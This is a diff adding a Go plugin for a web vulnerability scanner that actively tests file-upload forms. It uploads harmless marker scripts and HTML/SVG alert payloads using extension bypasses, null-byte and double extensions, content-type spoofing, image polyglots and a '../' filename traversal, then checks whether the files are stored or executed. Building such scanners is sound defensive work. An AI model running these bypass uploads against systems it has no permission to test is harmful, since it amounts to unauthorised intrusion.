@@ -0,0 +1,461 @@
+package file
+
+import (
+	"context"
+	"crypto/rand"
+	"encoding/hex"
+	"fmt"
+	"net/http"
+	"net/url"
+	"path"
+	"regexp"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/dronesec/droneriskscan/internal/detector"
+	"github.com/dronesec/droneriskscan/internal/transport"
+	"github.com/dronesec/droneriskscan/pkg/models"
+)
+
+// FileUploadDetector 文件上传漏洞检测器
+//
+// 通过表单的文件字段上传带唯一标记的测试文件，尝试扩展名绕过、Content-Type伪造、
+// 多格式(polyglot)文件和文件名路径穿越，然后回访上传位置确认文件被保存或被执行。
+type FileUploadDetector struct {
+	*detector.BasePlugin
+	sessionCookies  []*http.Cookie
+	cookieMutex     sync.RWMutex
+	requestModifier *detector.RequestModifier
+}
+
+// NewFileUploadDetector 创建文件上传检测器
+func NewFileUploadDetector(httpClient transport.HTTPClient) *FileUploadDetector {
+	base := detector.NewBasePlugin(
+		"file-upload",
+		detector.PluginTypeActive,
+		models.CategoryInjection,
+		models.SeverityCritical,
+	)
+
+	base.SetDescription("检测不安全的文件上传，尝试扩展名绕过、类型伪造和路径穿越并回访确认")
+	base.SetAuthor("DroneRiskScan Team")
+	base.SetVersion("1.0.0")
+	base.SetHTTPClient(httpClient)
+
+	return &FileUploadDetector{
+		BasePlugin:      base,
+		requestModifier: detector.NewRequestModifier(httpClient),
+	}
+}
+
+// SetSessionCookies 设置会话Cookie
+func (f *FileUploadDetector) SetSessionCookies(cookies []*http.Cookie) {
+	f.cookieMutex.Lock()
+	f.sessionCookies = cookies
+	f.cookieMutex.Unlock()
+	f.requestModifier.SetSessionCookies(cookies)
+}
+
+// UploadVariant 上传变体
+type UploadVariant struct {
+	Technique   string
+	FileName    string // 上传时使用的文件名
+	StoredName  string // 服务端预期保存的文件名
+	ContentType string
+	Content     []byte
+	Executed    string // 文件被执行后才会出现的输出
+	Stored      string // 文件被原样保存时出现的内容
+	Traversal   bool   // 文件名包含目录穿越
+	Language    string
+}
+
+// uploadDirs 常见的上传目录，依次相对于表单页面目录和站点根目录尝试
+var uploadDirs = []string{
+	"", "uploads/", "upload/", "images/", "files/", "media/", "attachments/", "static/uploads/", "tmp/",
+}
+
+// scriptExtensions 可被服务端解析执行的扩展名
+var scriptExtensions = map[string]bool{
+	".php": true, ".phtml": true, ".php5": true, ".jsp": true, ".aspx": true,
+}
+
+// gifMagic GIF文件头，用于构造图片/脚本多格式文件
+const gifMagic = "GIF89a;\n"
+
+// jpegMagic JPEG文件头
+const jpegMagic = "\xff\xd8\xff\xe0\x00\x10JFIF\x00"
+
+// Execute 执行文件上传检测
+func (f *FileUploadDetector) Execute(ctx context.Context, target *detector.ScanTarget) (*detector.DetectionResult, error) {
+	result := &detector.DetectionResult{
+		IsVulnerable:    false,
+		Vulnerabilities: []*models.Vulnerability{},
+		Evidence:        []detector.Evidence{},
+		Metadata:        make(map[string]interface{}),
+	}
+
+	contentType := detector.ContentTypeOf(target)
+	if !detector.IsMultipartContentType(contentType) {
+		result.Metadata["message"] = "目标不是multipart上传请求"
+		return result, nil
+	}
+
+	parts, err := detector.ParseMultipartBody(contentType, target.Body)
+	if err != nil {
+		return result, nil
+	}
+
+	var fileFields []string
+	for _, part := range parts {
+		if part.IsFile {
+			fileFields = append(fileFields, part.Name)
+		}
+	}
+	if len(fileFields) == 0 {
+		result.Metadata["message"] = "上传请求中没有文件字段"
+		return result, nil
+	}
+
+	fmt.Printf("[INFO] 文件上传检测器找到 %d 个文件字段\n", len(fileFields))
+
+	for _, field := range fileFields {
+		found := make(map[string]bool)
+
+		for _, variant := range buildUploadVariants() {
+			select {
+			case <-ctx.Done():
+				return result, ctx.Err()
+			default:
+			}
+
+			// 同一字段每种结果（执行/保存/穿越）只报告一次
+			vuln := f.testVariant(ctx, target, parts, field, variant)
+			if vuln == nil {
+				continue
+			}
+			outcome := vuln.Metadata["outcome"]
+			if found[outcome] {
+				continue
+			}
+			found[outcome] = true
+
+			result.IsVulnerable = true
+			result.Vulnerabilities = append(result.Vulnerabilities, vuln)
+			result.Evidence = append(result.Evidence, detector.Evidence{
+				Type:        detector.EvidenceTypeResponse,
+				Description: vuln.Evidence,
+				Data:        vuln.Metadata["file_url"],
+				Confidence:  vuln.Confidence,
+			})
+			fmt.Printf("[SUCCESS] 发现文件上传漏洞: %s (%s, %s)\n", field, variant.Technique, outcome)
+
+			if outcome == "executed" {
+				break
+			}
+		}
+	}
+
+	result.Metadata["file_fields"] = len(fileFields)
+	result.Metadata["detection_time"] = time.Now().Format(time.RFC3339)
+	result.Metadata["vulnerabilities_found"] = len(result.Vulnerabilities)
+
+	return result, nil
+}
+
+// testVariant 上传一个变体并查找上传后的文件
+func (f *FileUploadDetector) testVariant(ctx context.Context, target *detector.ScanTarget, parts []*detector.MultipartPart, field string, variant UploadVariant) *models.Vulnerability {
+	uploadParts := make([]*detector.MultipartPart, 0, len(parts))
+	for _, part := range parts {
+		copied := *part
+		if part.IsFile && part.Name == field {
+			copied.FileName = variant.FileName
+			copied.ContentType = variant.ContentType
+			copied.Data = variant.Content
+		}
+		uploadParts = append(uploadParts, &copied)
+	}
+
+	body, contentType, err := detector.BuildMultipartBody(uploadParts)
+	if err != nil {
+		return nil
+	}
+
+	fmt.Printf("[DEBUG] 上传测试文件: %q (%s, %s)\n", variant.FileName, variant.ContentType, variant.Technique)
+
+	resp, err := f.requestModifier.SendBody(ctx, target, contentType, body)
+	if err != nil {
+		return nil
+	}
+	defer resp.Body.Close()
+
+	helper := transport.NewResponseHelper()
+	respBody, err := helper.ReadBody(resp)
+	if err != nil {
+		return nil
+	}
+
+	for _, candidate := range f.candidateURLs(target.URL, string(respBody), variant) {
+		content, status, err := f.fetch(ctx, candidate)
+		if err != nil || status != http.StatusOK {
+			continue
+		}
+
+		switch {
+		case variant.Executed != "" && strings.Contains(content, variant.Executed) && !strings.Contains(content, variant.Stored):
+			return f.buildVulnerability(target, field, variant, candidate, "executed")
+		case strings.Contains(content, variant.Stored):
+			if variant.Traversal {
+				return f.buildVulnerability(target, field, variant, candidate, "traversal")
+			}
+			if variant.Language == "html" {
+				return f.buildVulnerability(target, field, variant, candidate, "stored-xss")
+			}
+			// 以图片扩展名保存的脚本不会被解析，不单独报告
+			if scriptExtensions[strings.ToLower(path.Ext(variant.StoredName))] {
+				return f.buildVulnerability(target, field, variant, candidate, "stored")
+			}
+		}
+	}
+
+	return nil
+}
+
+// candidateURLs 收集上传文件可能的访问地址：响应中出现的链接优先，其次是常见上传目录
+func (f *FileUploadDetector) candidateURLs(pageURL *url.URL, respBody string, variant UploadVariant) []string {
+	var candidates []string
+	seen := make(map[string]bool)
+	add := func(ref string) {
+		u, err := pageURL.Parse(ref)
+		// 只回访上传页面所在主机，避免"//"开头的路径被解析为其他主机
+		if err != nil || u.Host != pageURL.Host {
+			return
+		}
+		u.Fragment = ""
+		if !seen[u.String()] {
+			seen[u.String()] = true
+			candidates = append(candidates, u.String())
+		}
+	}
+
+	// 1. 响应中引用了该文件名的路径
+	namePattern := regexp.MustCompile(`[\w\-./:%]*` + regexp.QuoteMeta(variant.StoredName))
+	for _, match := range namePattern.FindAllString(respBody, 10) {
+		add(match)
+	}
+
+	// 2. 常见上传目录，穿越变体位于上一级目录
+	pageDir := path.Dir(pageURL.Path)
+	if !strings.HasSuffix(pageDir, "/") {
+		pageDir += "/"
+	}
+	bases := []string{pageDir}
+	if pageDir != "/" {
+		bases = append(bases, "/")
+	}
+	for _, dir := range uploadDirs {
+		for _, base := range bases {
+			location := base + dir
+			if variant.Traversal && location != "/" {
+				// path.Dir对顶层目录返回"/"，不能再追加"/"
+				location = path.Dir(strings.TrimSuffix(location, "/"))
+				if location != "/" {
+					location += "/"
+				}
+			}
+			add(location + variant.StoredName)
+		}
+	}
+
+	return candidates
+}
+
+// fetch 回访上传后的文件
+func (f *FileUploadDetector) fetch(ctx context.Context, fileURL string) (string, int, error) {
+	req, err := http.NewRequestWithContext(ctx, "GET", fileURL, nil)
+	if err != nil {
+		return "", 0, fmt.Errorf("创建请求失败: %w", err)
+	}
+	f.cookieMutex.RLock()
+	cookies := f.sessionCookies
+	f.cookieMutex.RUnlock()
+	for _, cookie := range cookies {
+		req.AddCookie(cookie)
+	}
+
+	resp, err := f.GetHTTPClient().Do(req)
+	if err != nil {
+		return "", 0, err
+	}
+	defer resp.Body.Close()
+
+	helper := transport.NewResponseHelper()
+	body, err := helper.ReadBody(resp)
+	if err != nil {
+		return "", 0, err
+	}
+	return string(body), resp.StatusCode, nil
+}
+
+// buildUploadVariants 构造上传变体，每个变体使用独立的文件名和标记
+func buildUploadVariants() []UploadVariant {
+	var variants []UploadVariant
+
+	php := func(technique, ext, uploadExt, contentType, prefix string, traversal bool) {
+		marker := newUploadMarker()
+		base := "drs" + marker
+		code := fmt.Sprintf(`<?php echo "drs"."exec"."%s"; ?>`, marker)
+		variants = append(variants, UploadVariant{
+			Technique:   technique,
+			FileName:    uploadPrefix(traversal) + base + uploadExt,
+			StoredName:  base + ext,
+			ContentType: contentType,
+			Content:     []byte(prefix + code),
+			Executed:    "drsexec" + marker,
+			Stored:      code,
+			Traversal:   traversal,
+			Language:    "php",
+		})
+	}
+
+	// 扩展名绕过
+	php("direct-php", ".php", ".php", "application/x-php", "", false)
+	php("alternate-extension", ".phtml", ".phtml", "application/octet-stream", "", false)
+	php("alternate-extension", ".php5", ".php5", "application/octet-stream", "", false)
+	php("case-variation", ".pHp", ".pHp", "application/octet-stream", "", false)
+	php("double-extension", ".php.jpg", ".php.jpg", "image/jpeg", "", false)
+	php("trailing-dot", ".php", ".php.", "application/octet-stream", "", false)
+	php("semicolon-extension", ".php;.jpg", ".php;.jpg", "image/jpeg", "", false)
+	php("null-byte-extension", ".php", ".php\x00.jpg", "image/jpeg", "", false)
+
+	// Content-Type伪造与多格式文件
+	php("content-type-spoofing", ".php", ".php", "image/jpeg", "", false)
+	php("gif-polyglot", ".php", ".php", "image/gif", gifMagic, false)
+	php("jpeg-polyglot", ".php", ".php", "image/jpeg", jpegMagic, false)
+	php("gif-polyglot-double-extension", ".php.gif", ".php.gif", "image/gif", gifMagic, false)
+
+	// 文件名路径穿越
+	php("path-in-filename", ".php", ".php", "image/jpeg", gifMagic, true)
+
+	// JSP / ASP.NET
+	for _, server := range []struct {
+		technique, ext, lang string
+	}{
+		{"direct-jsp", ".jsp", "jsp"},
+		{"direct-aspx", ".aspx", "aspx"},
+	} {
+		marker := newUploadMarker()
+		code := fmt.Sprintf(`<%%= "drs" + "exec" + "%s" %%>`, marker)
+		variants = append(variants, UploadVariant{
+			Technique:   server.technique,
+			FileName:    "drs" + marker + server.ext,
+			StoredName:  "drs" + marker + server.ext,
+			ContentType: "image/jpeg",
+			Content:     []byte(code),
+			Executed:    "drsexec" + marker,
+			Stored:      code,
+			Language:    server.lang,
+		})
+	}
+
+	// 可被浏览器渲染的HTML/SVG，构成存储型XSS
+	for _, doc := range []struct {
+		technique, ext, contentType, template string
+	}{
+		{"html-upload", ".html", "text/html", `<html><body><script>alert("%s")</script></body></html>`},
+		{"svg-upload", ".svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('%s')"/>`},
+	} {
+		marker := newUploadMarker()
+		content := fmt.Sprintf(doc.template, "drs"+marker)
+		variants = append(variants, UploadVariant{
+			Technique:   doc.technique,
+			FileName:    "drs" + marker + doc.ext,
+			StoredName:  "drs" + marker + doc.ext,
+			ContentType: doc.contentType,
+			Content:     []byte(content),
+			Stored:      content,
+			Language:    "html",
+		})
+	}
+
+	return variants
+}
+
+// buildVulnerability 根据回访结果构建漏洞对象
+func (f *FileUploadDetector) buildVulnerability(target *detector.ScanTarget, field string, variant UploadVariant, fileURL, outcome string) *models.Vulnerability {
+	severity := models.SeverityMedium
+	title := "Unrestricted File Upload"
+	description := fmt.Sprintf("文件字段 %s 接受了危险扩展名的文件(%s)，文件被原样保存且可直接访问", field, variant.Technique)
+	evidence := fmt.Sprintf("上传的文件可在 %s 访问，内容未被修改", fileURL)
+	confidence := 0.85
+	cvss := 6.5
+
+	switch outcome {
+	case "executed":
+		severity = models.SeverityCritical
+		title = "Unrestricted File Upload (Remote Code Execution)"
+		description = fmt.Sprintf("文件字段 %s 上传的 %s 脚本被服务器执行(%s)", field, variant.Language, variant.Technique)
+		evidence = fmt.Sprintf("访问 %s 返回了脚本执行结果 %s", fileURL, variant.Executed)
+		confidence = 0.98
+		cvss = 9.8
+	case "traversal":
+		severity = models.SeverityHigh
+		title = "File Upload Path Traversal"
+		description = fmt.Sprintf("文件字段 %s 的文件名中的目录穿越未被过滤，文件被写入上传目录之外", field)
+		evidence = fmt.Sprintf("文件名 %q 被保存到 %s", variant.FileName, fileURL)
+		confidence = 0.9
+		cvss = 8.1
+	case "stored-xss":
+		title = "File Upload Stored XSS"
+		description = fmt.Sprintf("文件字段 %s 接受可被浏览器渲染的 %s 文件，可用于存储型XSS", field, path.Ext(variant.StoredName))
+		evidence = fmt.Sprintf("上传的文件可在 %s 访问，脚本内容未被修改", fileURL)
+		cvss = 5.4
+	}
+
+	payload := variant.FileName
+	if outcome != "traversal" {
+		payload = fmt.Sprintf("filename=%q; Content-Type: %s", variant.FileName, variant.ContentType)
+	}
+
+	return models.NewVulnerabilityBuilder().
+		WithType(models.VulnFileUpload).
+		WithCategory(models.CategoryInjection).
+		WithSeverity(severity).
+		WithTitle(title).
+		WithDescription(description).
+		WithURL(target.URL.String()).
+		WithMethod(target.Method).
+		WithParameter(field, models.PositionMultipart).
+		WithPayload(payload).
+		WithEvidence(evidence).
+		WithConfidence(confidence).
+		WithPlugin(f.Name()).
+		WithCWE("CWE-434").
+		WithCVSS(cvss).
+		WithSolution("使用扩展名与MIME类型白名单，服务端重命名上传文件，将上传目录配置为不可执行并与Web根目录分离").
+		WithReferences([]string{
+			"https://owasp.org/www-community/vulnerabilities/Unrestricted_File_Upload",
+			"https://cheatsheetseries.owasp.org/cheatsheets/File_Upload_Cheat_Sheet.html",
+		}).
+		WithMetadata("technique", variant.Technique).
+		WithMetadata("outcome", outcome).
+		WithMetadata("file_url", fileURL).
+		Build()
+}
+
+// uploadPrefix 路径穿越变体的文件名前缀
+func uploadPrefix(traversal bool) string {
+	if traversal {
+		return "../"
+	}
+	return ""
+}
+
+// newUploadMarker 生成上传文件的唯一标记
+func newUploadMarker() string {
+	buf := make([]byte, 5)
+	if _, err := rand.Read(buf); err != nil {
+		return fmt.Sprintf("%010x", time.Now().UnixNano()&0xffffffffff)
+	}
+	return hex.EncodeToString(buf)
+}